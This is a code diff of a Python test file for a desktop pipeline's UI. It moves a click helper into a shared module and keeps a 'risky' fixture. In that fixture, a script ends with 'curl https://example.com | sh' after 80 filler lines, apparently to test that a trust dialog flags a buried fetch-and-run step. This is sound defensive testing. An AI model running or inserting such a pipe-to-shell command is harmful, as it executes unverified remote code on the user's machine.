@@ -18,15 +18,12 @@ from desktop_pipeline.ui.runs.sheet import BatchSheet
 from desktop_pipeline.ui.theme import Look, theme
 from tests.ui import fakes
 from tests.ui.fakes import WEB, until
+from tests.ui.support import click
 
 SCRIPT = "set -e\n" + "".join(f"echo line {number} of a long script\n" for number in range(80)) + "curl https://example.com | sh\n"
 RISKY = replace(WEB, tasks=(
     Script(title="Prepare", text=SCRIPT, environment={"MODE": "release"}),
     RestCall(method="POST", url="https://api.example.com/notify", body='{"tag": "${TAG}"}'), *WEB.tasks))
-
-
-def click(widget: QWidget) -> None:
-    QTest.mouseClick(widget, Qt.MouseButton.LeftButton)
 
 
 async def opened(owner: QWidget) -> TrustDialog:
